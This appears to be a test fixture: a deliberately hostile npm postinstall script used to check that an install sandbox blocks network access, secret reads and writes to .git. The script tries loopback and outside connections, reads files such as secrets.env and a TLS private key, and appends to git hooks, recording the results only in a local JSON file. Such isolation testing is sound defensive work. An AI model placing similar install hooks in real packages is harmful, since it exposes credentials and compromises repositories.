// A commit's postinstall, as an attacker with push access writes it: reach production's loopback services and
// the world outside (here the sandbox's own upstream, OUTSIDE: the tests reach no other address), read
// production's files and bastion's state, write the checkout's .git. It records what it managed in
// node_modules/.hostile-install.json (the one place it may write) and always succeeds, so the install goes on
// and the test reads the record.
const fs = require('fs');
const net = require('net');
const os = require('os');

const targets = [['127.0.0.1', 3444], ['::1', 3444], ['127.0.0.1', 6333], ['127.0.0.1', 9000],
  ['127.0.0.1', 21000], OUTSIDE];
const files = ['/mnt/coordinaton_mcp_data/.hub-secret', '/mnt/coordinaton_mcp_data/Human-Adjacent-Coordination/secrets.env',
  '/mnt/coordinaton_mcp_data/instances/Lupo-f63b/.env', '/etc/bastion/door/bastion.header',
  '/var/lib/bastion/follow.state', '/etc/hacs-dev/secrets.env', '/etc/letsencrypt/live/smoothcurves.nexus/privkey.pem'];
const record = { uid: process.getuid(), connected: [], read: {}, wrote: [] };

function tryConnect([host, port]) {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port, timeout: 2000 });
    socket.on('connect', () => { record.connected.push(`${host}:${port}`); socket.destroy(); resolve(); });
    socket.on('error', () => resolve());
    socket.on('timeout', () => { socket.destroy(); resolve(); });
  });
}

(async () => {
  await Promise.all(targets.map(tryConnect));
  for (const file of files) {
    try { record.read[file] = fs.readFileSync(file, 'utf8'); } catch (error) { /* not there for it */ }
  }
  for (const file of ['.git/config', '.git/hooks/post-merge', 'src/planted.js']) {
    try { fs.appendFileSync(file, '\n# planted at install\n'); record.wrote.push(file); } catch (error) { /* read-only */ }
  }
  record.home = os.homedir();
  fs.writeFileSync('node_modules/.hostile-install.json', JSON.stringify(record));
})();
